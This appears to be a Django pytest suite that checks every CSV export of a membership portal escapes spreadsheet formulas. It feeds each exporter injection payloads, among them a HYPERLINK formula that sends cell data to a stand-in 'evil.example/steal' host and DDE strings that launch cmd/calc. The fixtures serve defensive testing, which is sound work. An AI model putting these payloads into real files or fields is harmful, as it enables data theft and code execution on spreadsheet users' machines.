"""Every CSV the portal produces goes through `lmcportal.csv`, and none lets a formula through.

The list of outputs cannot go stale: the first test finds every module that
writes CSV with the standard library instead of `lmcportal.csv`, and the
second every module that uses `lmcportal.csv`, which must each have a
formula test in OUTPUTS below.
"""

import ast
import csv as stdlib_csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from django.urls import reverse

from lmcportal import csv as portal_csv
from privacy.personal_data import personal_data_export
from tests.enquiries.factories import EnquiryFactory
from tests.enquiries.triage_support import admin_client
from tests.factories import MembershipFactory, PracticeFactory
from tests.programmes.factories import BookingFactory

ROOT = Path(__file__).resolve().parent.parent
SKIP_DIRS = {".venv", "node_modules", "tests", "staticfiles", ".git"}
# Writes a PostgreSQL COPY stream for the benchmark's own rows, read by the
# database and never opened by a person: an apostrophe would corrupt the data.
STDLIB_WRITER_ALLOWED = {"lmcportal/csv.py", "bench/seed.py"}
FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")'


def project_modules():
    for path in sorted(ROOT.rglob("*.py")):
        relative = path.relative_to(ROOT)
        if not SKIP_DIRS & set(relative.parts[:-1]):
            yield relative.as_posix(), ast.parse(path.read_text(), filename=str(path))


def writes_with_the_standard_library(tree: ast.AST) -> bool:
    stdlib_names = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            stdlib_names |= {alias.asname or alias.name for alias in node.names if alias.name == "csv"}
        if (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and {alias.name for alias in node.names} & {"writer", "DictWriter", "*"}
        ):
            return True
    return any(
        isinstance(node, ast.Attribute)
        and node.attr in ("writer", "DictWriter")
        and isinstance(node.value, ast.Name)
        and node.value.id in stdlib_names
        for node in ast.walk(tree)
    )


def uses_the_portal_writer(tree: ast.AST) -> bool:
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module == "lmcportal" and any(a.name == "csv" for a in node.names):
            return True
        if isinstance(node, ast.Import | ast.ImportFrom) and "lmcportal.csv" in (
            [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module]
        ):
            return True
    return False


def test_no_module_writes_csv_with_the_standard_librarys_writer():
    offenders = [
        name
        for name, tree in project_modules()
        if name not in STDLIB_WRITER_ALLOWED and writes_with_the_standard_library(tree)
    ]
    assert not offenders, f"Write CSV with `from lmcportal import csv` instead: {offenders}"


def test_every_module_producing_csv_has_a_formula_test():
    producers = {name for name, tree in project_modules() if uses_the_portal_writer(tree)}
    assert producers == set(OUTPUTS), "Add a formula test to OUTPUTS for each CSV producer"


# --- Each output, fed a formula ------------------------------------------------


def _cells(text: str) -> list[str]:
    return [cell for row in stdlib_csv.reader(io.StringIO(text)) for cell in row]


def subject_access_zip(client) -> list[str]:
    member = MembershipFactory(user__first_name=FORMULA, user__last_name="+1+cmd|' /C calc'!A0").user
    EnquiryFactory(submitted_by=member, practice=member.memberships.get().practice, summary="@SUM(1+1)*cmd|' /C calc'!A0")
    with zipfile.ZipFile(io.BytesIO(personal_data_export(user=member))) as archive:
        return [cell for name in archive.namelist() if name.endswith(".csv") for cell in _cells(archive.read(name).decode())]


def attendance_csv(client) -> list[str]:
    booking = BookingFactory(user__first_name=FORMULA, user__last_name="-2+3")
    MembershipFactory(user=booking.user, practice__name="\t=1+1")
    client = admin_client(client, "programme")
    response = client.post(
        reverse("admin:programmes_session_changelist"),
        {"action": "export_attendance", "_selected_action": [booking.session.pk]},
    )
    return _cells(response.content.decode())


def triage_export(client) -> list[str]:
    EnquiryFactory(summary=FORMULA, details="\r=1+1", contact_phone="+441234567890")
    response = admin_client(client, "lead").get(reverse("admin:enquiries_enquiry_export"))
    return _cells(response.content.decode())


def levies_reconciliation_csv(client) -> list[str]:
    PracticeFactory(name=FORMULA, pcn__name="@SUM(A1:A9)")
    response = admin_client(client, "levy").get(reverse("admin:levies_reconciliation_csv"), {"quarter": "2026-04-01"})
    return _cells(response.content.decode())


def leadership_interests_csv(client) -> list[str]:
    from tests.programmes.factories import InterestFactory

    interest = InterestFactory(practice=PracticeFactory(name=FORMULA))
    response = admin_client(client, "programme").post(
        reverse("admin:programmes_leadershipinterest_changelist"),
        {"action": "export_csv", "_selected_action": [interest.pk]},
    )
    return _cells(response.content.decode())


def voice_answers_csv(client) -> list[str]:
    from tests.voice.factories import good_answers, survey_with_questions
    from voice import services as voice_services

    survey = survey_with_questions()
    survey.questions.filter(kind="text").update(max_length=len(FORMULA))
    voice_services.response_submit(survey=survey, user=MembershipFactory().user, data=good_answers(survey, text=FORMULA))
    response = admin_client(client, "officer").get(reverse("admin:voice_survey_export", args=[survey.pk]))
    return _cells(response.content.decode())


OUTPUTS: dict[str, Callable] = {
    "privacy/personal_data.py": subject_access_zip,
    "programmes/admin.py": attendance_csv,
    "enquiries/admin/triage/export.py": triage_export,
    "levies/admin/remittances.py": levies_reconciliation_csv,
    "programmes/export.py": leadership_interests_csv,
    "voice/export.py": voice_answers_csv,
}


@pytest.mark.django_db
@pytest.mark.parametrize("module", sorted(OUTPUTS))
def test_no_csv_output_lets_a_formula_through(client, module):
    cells = OUTPUTS[module](client)

    assert any(FORMULA in cell for cell in cells), f"{module}: the formula did not reach the CSV, so this tests nothing"
    dangerous = [cell for cell in cells if cell.startswith(portal_csv.FORMULA_STARTS)]
    assert not dangerous, f"{module} wrote cells a spreadsheet would run: {dangerous}"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_starting_a_formula_gets_an_apostrophe(text):
    out = io.StringIO()
    portal_csv.writer(out).writerow([text])

    assert next(stdlib_csv.reader(io.StringIO(out.getvalue()))) == ["'" + text]


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    from decimal import Decimal

    out = io.StringIO()
    writer = portal_csv.DictWriter(out, fieldnames=["difference", "name"])
    writer.writeheader()
    writer.writerow({"difference": Decimal("-12.50"), "name": "Riverside - Preston"})

    assert out.getvalue().splitlines() == ["difference,name", "-12.50,Riverside - Preston"]
